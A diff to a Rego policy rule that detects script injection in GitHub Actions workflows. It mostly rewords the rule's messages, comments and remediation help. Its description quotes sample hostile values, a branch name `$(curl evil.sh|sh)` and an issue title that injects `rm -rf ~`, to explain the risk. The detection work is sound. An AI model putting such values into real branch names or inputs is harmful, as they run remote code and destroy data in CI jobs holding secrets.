@@ -1,8 +1,8 @@
 # METADATA
-# title: Scripts do not contain text that strangers write
+# title: Scripts do not contain untrusted text
 # description: >-
-#   `${{ … }}` is replaced in a script before the shell reads it. A branch named `$(curl evil.sh|sh)` or an issue titled
-#   `"; rm -rf ~ #` then is code, which runs with the token and the secrets of the job.
+#   `${{ … }}` is replaced before the shell reads the script. A branch named `$(curl evil.sh|sh)` or an issue titled `";
+#   rm -rf ~ #` then becomes code, which runs with the token and the secrets of the job.
 # related_resources:
 #   - ref: https://docs.github.com/en/actions/concepts/security/script-injections
 #   - ref: https://securitylab.github.com/resources/github-actions-untrusted-input/
@@ -15,7 +15,9 @@
 #     - .github/workflows/*.yaml
 #     - "**/action.yml"
 #     - "**/action.yaml"
-#   help: 'Pass the value through `env:` and read the variable, quoted, in the script: `env: {TITLE: "${{ … }}"}`, then `"$TITLE"`'
+#   help: >-
+#     Pass the value through `env:` and read the quoted variable in the script: `env: {TITLE: "${{ … }}"}`, then
+#     `"$TITLE"`
 package purlin.rules.workflow.no_script_injection
 
 import data.purlin.lib.paths
@@ -23,7 +25,7 @@ import data.purlin.lib.shape
 import data.purlin.lib.workflow
 
 report contains {
-	"msg": sprintf("the script contains %s, which strangers write", [context]),
+	"msg": sprintf("the script contains %s, which anybody can set", [context]),
 	"at": {"path": input.file.path, "index": object.get(input.file, "index", 0), "pointer": script.at, "find": context},
 	"key": [script.job_id, context],
 	"help": help(script, context),
@@ -40,7 +42,7 @@ scripts contains {"at": array.concat(entry.at, ["run"]), "job_id": entry.job_id,
 	contains(shape.text(entry.step.run), "${{")
 }
 
-# The script of actions/github-script is JavaScript that is replaced in the same way.
+# Expressions in the JavaScript of actions/github-script are replaced in the same way.
 scripts contains {"at": array.concat(entry.at, ["with", "script"]), "job_id": entry.job_id, "text": text, "kind": "javascript"} if {
 	some entry in workflow.steps
 	lower(workflow.action(entry.step.uses)) == "actions/github-script"
@@ -58,8 +60,8 @@ untrusted := sprintf(`^github\.(head_ref|event\.(%s))$`, [concat("|", [
 	`workflow_run\.(head_branch|display_title|pull_requests(\.\*|\[[0-9]+\])\.head\.ref)`,
 ])])
 
-# The parts of an expression that can become its value, in lower case, since names do not heed it. A comparison, a test
-# by a function and what stands before `&&` only choose; a literal is the author's own.
+# The parts of an expression that can become its value, in lower case, since names are not case-sensitive. Comparisons,
+# tests by a function and the left side of `&&` only choose between values; a literal comes from the author.
 yields(expression) := without_choices if {
 	without_literals := regex.replace(lower(expression), `'([^']|'')*'`, "''")
 	without_tests := regex.replace(without_literals, `(contains|startswith|endswith|hashfiles)[ \t\n]*\([^()]*\)`, "true")
@@ -68,12 +70,12 @@ yields(expression) := without_choices if {
 	without_choices := regex.replace(without_right, `[a-z_][a-z0-9_.*\[\]-]*[ \t\n]*&&`, "&&")
 }
 
-help(script, context) := sprintf("Give the step `env: {%s: \"${{ %s }}\"}` and read \"$%s\" in the script", [name, context, name]) if {
+help(script, context) := sprintf("Set `env: {%s: \"${{ %s }}\"}` on the step, and use \"$%s\" in the script", [name, context, name]) if {
 	script.kind == "shell"
 	name := variable(context)
 }
 
-help(script, context) := sprintf("Give the step `env: {%s: \"${{ %s }}\"}` and read process.env.%s in the script", [name, context, name]) if {
+help(script, context) := sprintf("Set `env: {%s: \"${{ %s }}\"}` on the step, and use process.env.%s in the script", [name, context, name]) if {
 	script.kind == "javascript"
 	name := variable(context)
 }
